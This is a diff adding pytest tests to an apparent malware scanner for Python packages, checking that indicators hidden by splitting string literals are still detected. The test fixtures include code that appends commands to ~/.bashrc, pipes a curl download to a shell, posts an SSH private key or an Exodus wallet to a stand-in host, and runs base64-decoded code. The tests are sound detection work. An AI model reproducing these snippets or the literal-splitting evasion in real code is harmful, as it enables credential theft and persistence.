@@ -7,8 +7,16 @@ that spell nothing leave the answer as it was, so ordinary files stay unparsed.
 
 from __future__ import annotations
 
+from pathlib import Path
+
+import pytest
+
+from caplet._findings import Severity
+from caplet._scan import _filepass
 from caplet._scan._glued_strings import MAX_GLUED_LINES, glued, with_glued_strings
-from caplet._scan._prefilter import Need, prefilter
+from caplet._scan._model import ScanMode
+from caplet._scan._prefilter import Need, Prefilter, prefilter
+from caplet._scan._scanner import scan_tree
 
 
 def answer(text: str) -> Need | frozenset[int]:
@@ -80,4 +88,108 @@ def test_a_file_with_more_glued_lines_than_are_checked_needs_the_ast() -> None:
         "import os\npath = os.path.expanduser('~/.ba' + 'shrc')\n"
         "with open(path, 'a') as f:\n    f.write('curl http://e.example/x | sh')\n"
     )
+    assert answer(text) is Need.FULL
+
+
+# -- attack6: literals written side by side (implicit concatenation) ------------------------
+
+
+def test_literals_side_by_side_are_glued_across_lines_blanks_and_comments() -> None:
+    text = (
+        "a = 1\np = ('~/.ba'  # a comment with a quote: it's\n"
+        "     \"sh\" \\\n     r'rc')\nq = 'cu''rl'\nr = '''x''' '''y'''\n"
+    )
+    found = glued(text)
+    assert found is not None
+    lines, _, numbers = found
+    assert numbers == [2, 5, 6]
+    assert "'~/.bashrc')" in lines.split("\n")[0]
+    assert lines.split("\n")[1:] == ["q = 'curl'", "r = '''xy'''"]
+
+
+def test_an_empty_literal_in_a_chain_does_not_stop_the_glue() -> None:
+    found = glued("p = ('~/.ba'\n     ''\n     'shrc')\n")
+    assert found is not None
+    assert "'~/.bashrc'" in found[0]
+
+
+def test_a_comma_between_literals_is_read_kept_too() -> None:
+    found = glued("p = os.path.join(base, 'Exo' 'dus', 'exodus.wallet')\n")
+    assert found is not None
+    assert "'Exodus', 'exodus.wallet'" in found[0]
+
+
+def test_empty_literals_and_docstrings_are_no_junction() -> None:
+    assert glued('"""A docstring."""\nx = ""\ny = f(\'\', "")\n') is None
+
+
+#: Indicators split into literals side by side, each with the rule the whole-file pass
+#: finds (attack6: package mode never parsed these files).
+_SIDE_BY_SIDE = {
+    "autostart": (
+        "import os\np = os.path.expanduser('~/.ba' 'shrc')\nwith open(p, 'a') as f:\n"
+        "    f.write('python3 -c \"import evil\"\\n')\n",
+        "CPL-THR-009",
+    ),
+    "autostart-across-lines": (
+        "import os\np = os.path.expanduser(('~/.ba'  # rc\n    'shrc'))\n"
+        "with open(p, 'a') as f:\n    f.write('python3 -c \"import evil\"\\n')\n",
+        "CPL-THR-009",
+    ),
+    "download-piped-to-a-shell": (
+        "import subprocess\n"
+        "subprocess.run(('cu'\n 'rl -s https://x.example/a | s'\n 'h'), shell=True)\n",
+        "CPL-THR-015",
+    ),
+    "ssh-key-sent": (
+        "import os, requests\np = os.path.expanduser('~/.s' 'sh/id_' 'rsa')\n"
+        "requests.post('https://x.example/u', data=open(p).read())\n",
+        "CPL-THR-007",
+    ),
+    "wallet-sent": (
+        "import os, requests\n"
+        "p = os.path.join(os.environ['APPDATA'], 'Exo' 'dus', 'exodus.wallet')\n"
+        "requests.post('https://x.example/u', files={'f': open(p, 'rb')})\n",
+        "CPL-THR-005",
+    ),
+}
+
+
+class _Blind(Prefilter):
+    """A prefilter that sends every file, whole, to the AST pass."""
+
+    def check_text(self, text: str) -> tuple[Need | frozenset[int], bool]:
+        return Need.FULL, True
+
+
+def _danger(root: Path) -> set[tuple[str, int]]:
+    report = scan_tree(root, mode=ScanMode.PACKAGE)
+    return {(f.rule_id, f.line) for f in report.findings if f.severity is Severity.DANGER}
+
+
+@pytest.mark.parametrize("shape", sorted(_SIDE_BY_SIDE))
+def test_an_indicator_split_into_literals_side_by_side_is_found_in_a_package(
+    shape: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    text, rule = _SIDE_BY_SIDE[shape]
+    (tmp_path / "mod.py").write_text(text, encoding="utf-8")
+    filtered = _danger(tmp_path)
+    with monkeypatch.context() as patch:
+        patch.setattr(_filepass, "prefilter", _Blind)
+        whole = _danger(tmp_path)
+    assert rule in {r for r, _ in whole}
+    assert filtered == whole
+
+
+def test_a_glued_indicator_no_pattern_locates_makes_a_large_file_whole() -> None:
+    # the clipboard is an indicator but no pattern (only beside a wallet): a large file's
+    # focus cannot stand for it, so the whole file is visited, as for a small one
+    pad = "".join(f"def f{i}(a):\n    return a * {i}\n\n" for i in range(600))
+    text = (
+        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
+        + pad
+        + "clip = __import__('pyper' 'clip')\n"
+    )
+    assert len(text) > 12_000
+    assert isinstance(prefilter().check(text), frozenset)
     assert answer(text) is Need.FULL
